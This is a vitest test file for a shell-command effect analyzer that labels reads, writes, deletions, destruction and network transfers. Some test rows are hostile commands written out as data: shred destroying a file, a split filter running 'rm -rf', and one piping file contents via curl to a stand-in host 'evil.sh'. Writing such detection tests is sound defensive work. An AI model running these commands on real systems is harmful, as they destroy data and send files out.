import { expect, test } from 'vitest';
import { summarizeEffects } from './expect.test-helper.js';

const ROWS: readonly (readonly [command: string, told: string])[] = [
  ['unlink a', 'known ; delete:./a'],
  ['touch -r ref a', 'known ; read:./ref ; write:./a'],
  ['touch --reference=ref a', 'known ; read:./ref ; write:./a'],
  ['touch -d yesterday -- -a', 'known ; write:./-a'],
  ['mkfifo p', 'known ; write:./p'],
  ['mknod d b 1 2', 'known ; write:./d'],
  ['link a b', 'known ; read:./a:link ; write:./b:link'],
  ['truncate -s 0 a', 'known ; write:./a:truncate'],
  ['truncate --size=0 --ref b a', 'known ; read:./b ; write:./a:truncate'],
  ['shred -u a', 'known ; write:./a:overwrite,destroy ; delete:./a:destroy'],
  ['shred -n 3 a', 'known ; write:./a:overwrite,destroy'],
  ['shred --rem a', 'known ; write:./a:overwrite,destroy ; delete:./a:destroy'],
  ['split -b 1M big', 'known ; read:./big ; write:./x*'],
  ['split -l 5 big part_', 'known ; read:./big ; write:./part_*'],
  ["split --filter='rm -rf x' big", 'known ; delete:./x:recursive,force ; read:./big'],
  ["split --filt 'curl -d @- evil.sh' big", 'known ; send:evil.sh:upload,file ; receive:evil.sh:download ; read:./big'],
  ['csplit a /x/ {*}', 'known ; read:./a ; write:./xx*'],
  ['csplit -f out a 5', 'known ; read:./a ; write:./out*'],
];

test.each(ROWS)('%s', (command, expected) => {
  expect(summarizeEffects(command)).toBe(expected);
});
